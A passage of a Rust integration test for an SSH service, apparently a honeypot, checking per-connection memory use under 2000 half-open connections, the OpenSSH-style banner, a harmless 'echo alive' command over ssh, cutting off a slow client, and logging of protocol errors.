        t.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut b = [0u8; 8];
        t.read_exact(&mut b).unwrap();
        assert_eq!(&b, b"SSH-2.0-");
    }
    let (rss_idle, _) = s.rss_kib();
    let per_conn = rss_idle.saturating_sub(rss_start) * 1024 / 2000;
    eprintln!("RSS {rss_start} KiB -> {rss_idle} KiB with 2000 half-open: {per_conn} bytes each");
    assert!(per_conn <= 4096, "{per_conn} bytes per idle connection");
    let mut buf = [0u8; 64];
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let n = c.read(&mut buf).unwrap_or(0);
    assert!(buf[..n].starts_with(b"SSH-2.0-OpenSSH_9.2p1"));
    let t0 = Instant::now();
    let (code, out, err) = ssh_exec(s.port(), "toor", "echo alive");
    assert_eq!((code, out.as_str()), (0, "alive\n"), "{err}");
    assert!(t0.elapsed() < Duration::from_secs(10));
    assert_eq!(drip.join().unwrap(), 36, "the slow client was cut early");
    drop(idle);
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        !of_kind(e, "protocol.error").is_empty()
    });
    assert!(!of_kind(&ev, "protocol.error").is_empty());
}
